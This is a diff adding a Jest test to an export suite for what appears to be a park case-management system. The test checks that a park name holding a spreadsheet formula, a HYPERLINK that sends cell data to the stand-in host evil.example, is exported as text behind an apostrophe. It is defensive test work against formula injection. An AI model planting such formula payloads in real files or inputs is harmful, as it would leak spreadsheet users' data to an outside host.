@@ -178,4 +178,15 @@ describe('exports and statistics, scoped like GET /api/cases', () => {
     expect(jiangsu.total).toBe(2);
     expect(new Set(jiangsu.byRegionStatus.map((row) => row.region))).toEqual(new Set(['320000']));
   });
+
+  // Last: it names park2's case. A park's own name is the one text in an export it types.
+  it('writes a park name a spreadsheet would take for a formula as text, after an apostrophe', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"详情")';
+    await h.complete('park2', applying, 'submitCreationApplication', { parkType: 'industry', parkName: formula });
+    const row = (await exported(h, 'samr')).rows.find((exportedRow) => exportedRow['案件编号'] === applying);
+    expect(row?.['园区']).toBe(`'${formula}`);
+    // Other names, and the other cells, are as they were.
+    const named = (await exported(h, 'samr')).rows.find((exportedRow) => exportedRow['案件编号'] === recognised);
+    expect(named).toMatchObject({ 园区: '云澜湖智能装备产业园区', 发起日期: '2024-04-01' });
+  });
 });
